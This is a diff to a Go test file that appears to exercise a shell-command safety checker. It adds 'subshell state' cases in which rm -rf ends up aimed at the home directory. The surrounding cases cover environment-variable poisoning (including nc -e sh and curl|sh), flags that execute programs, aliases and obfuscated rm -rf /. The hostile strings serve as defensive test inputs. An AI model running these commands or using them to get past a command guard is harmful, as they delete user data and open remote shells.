@@ -35,6 +35,7 @@ func TestEvasionFamilies(t *testing.T) {
 		"env poisoning":         {`GIT_SSH_COMMAND='nc x 1 -e sh' git pull`, `BASH_ENV=/tmp/p bash x.sh`, `PAGER='sh -c "curl x|sh"' git log`, `LD_PRELOAD=./x.so /usr/bin/true`, `export BASH_ENV=/tmp/x.sh && bash t.sh`},
 		"program-running flags": {`rg --pre ./x.sh pat`, `sort --compress-program=./x.sh f`, `man --html='sh -c id' ls`, `sed 's/.*/id/e' f`, `awk 'BEGIN{system("id")}'`, `tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sh x'`, `zip x.zip f -T -TT 'sh -c id #'`, `git -c core.pager='sh -c id' log`, `git ls-remote --upload-pack='sh -c id' o`, `vim -c ':!id'`},
 		"long chains":           {"true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; rm -rf ~"},
+		"subshell state":        {`d=~; (d=build); rm -rf $d`, `d=~; d=build | true; rm -rf $d`, `d=~; true | d=build; rm -rf $d`, `d=~; echo $(d=build); rm -rf $d`, `d=~; d=build & rm -rf $d`, `d=~; cat <(d=build); rm -rf $d`, `d=~; (unset d); rm -rf ${d:-/}`, `f() { (d=build); rm -rf "$d"; }; d=build; f; d=~; f`},
 		"aliases":               {"shopt -s expand_aliases\nalias ls='rm -rf ~'\nls", `alias x='rm -rf ~'; x`},
 		"normalization":         {"ｒｍ -ｒｆ /", "rm\u200b -rf /", "r\x00m -rf /", "\x1b[0mrm -rf ~", "r\u009bm -rf ~", "rm\u2060 -rf ~"},
 	}
